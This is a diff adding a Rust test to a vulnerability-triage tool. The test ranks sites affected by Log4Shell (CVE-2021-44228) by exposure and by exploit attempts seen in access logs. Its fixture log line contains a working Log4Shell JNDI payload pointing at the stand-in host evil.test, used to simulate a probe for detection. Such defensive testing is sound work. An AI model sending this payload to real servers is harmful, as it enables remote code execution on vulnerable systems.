@@ -86,3 +86,69 @@ fn what_cannot_be_asked_is_told_with_its_place() {
     .assert_eq(&place.run(&["sites", "list", "affected"]).text());
     place.expect(0, &["sites", "list", "affected:CVE-2021-44228"]);
 }
+
+/// Who can reach a site ranks it among equals, with its reason; so does an attempt in its log.
+#[test]
+fn exposure_and_attempts_rank_sites_and_are_explained() {
+    let place = answered();
+    let reasons = |slug: &str| -> Vec<String> {
+        let document = place.expect(3, &["affected", "CVE-2021-44228", "--json"]).json();
+        let items = document["items"].as_array().unwrap();
+        let item = items.iter().find(|item| item["site"] == slug).unwrap();
+        let reasons = item["priority"]["reasons"].as_array().unwrap();
+        reasons.iter().map(|it| it["code"].as_str().unwrap().to_owned()).collect()
+    };
+    assert!(reasons("san-001").contains(&"priority-exposure-unknown".to_owned()));
+    assert!(!reasons("san-001").contains(&"priority-probed-site".to_owned()));
+    place.write(
+        "more.csv",
+        "slug,origin,organisation,sector,criticality,edge,exposure\n\
+         san-001,https://san1.example,Santé Nord,health,2,north,internal\n\
+         san-003,https://san3.example,Santé Nord,health,2,north,controlled\n\
+         san-004,https://san4.example,Santé Nord,health,2,north,internet\n",
+    );
+    place.expect(0, &["sites", "import", "more.csv"]);
+    place.expect(0, &["scan", "bad", "--site", "san-003"]);
+    place.expect(0, &["scan", "bad", "--site", "san-004"]);
+    expect![[r#"
+        CVE-2021-44228  Log4Shell: text that is logged can make log4j-core load and run code from a remote server
+        CVSS 10.0 · KEV · SSVC act · affects >=2.0-beta9 <2.3.1, >=2.13.0 <2.15.0, >=2.4 <2.12.2 · fixed in 2.12.2, 2.15.0, 2.3.1
+        3 of 5 sites affected, 1 unknown, 1 clear
+         Site     Answer    Exposure                                        Reason
+         san-004  affected  the internet                                    log4j-core
+         san-003  affected  through a control (VPN, address list, partner)  log4j-core
+         san-001  affected  inside only                                     log4j-core
+         mun-001  unknown   not known, counts as the internet               a part is corrupt
+         ? a part is corrupt: 1
+        Next: relight incident open CVE-2021-44228
+        --- stderr
+        hint: 1 unknown site: relight sites gaps shows what is missing
+        --- status 3
+    "#]].assert_eq(&place.run(&["affected", "CVE-2021-44228", "--by", "site"]).text());
+    let today = relight_server::web::number::rfc3339(now());
+    place.write(
+        "access.json",
+        format!(
+            "{{\"time_iso8601\": \"{today}\", \"remote_addr\": \"45.33.32.156\", \"host\": \
+             \"san1.example\", \"request\": \"GET /${{jndi:ldap://evil.test/a}} HTTP/1.1\", \
+             \"status\": 200, \"body_bytes_sent\": 9, \"http_user_agent\": \"curl\"}}\n"
+        ),
+    );
+    place.expect(0, &["watch", "ingest", "access.json", "--org", "Santé Nord"]);
+    let codes = reasons("san-001");
+    for code in ["priority-internal", "priority-probed-site", "priority-score-site"] {
+        assert!(codes.contains(&code.to_owned()), "{code}: {codes:?}");
+    }
+    assert!(reasons("san-004").contains(&"priority-probed-organisation".to_owned()));
+    assert!(reasons("san-003").contains(&"priority-controlled".to_owned()));
+    let by_site = place.expect(3, &["affected", "CVE-2021-44228", "--by", "site"]).stdout;
+    assert!(by_site.contains("inside only, attempts seen"), "{by_site}");
+    let inside = ["affected", "CVE-2021-44228", "--sites", "exposure:internal"];
+    assert!(place.expect(0, &inside).stdout.contains("1 of 1 site affected"));
+}
+
+#[expect(clippy::disallowed_methods, reason = "attempts count for 90 days of the real clock")]
+fn now() -> i64 {
+    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
+    since.unwrap().as_secs().cast_signed()
+}
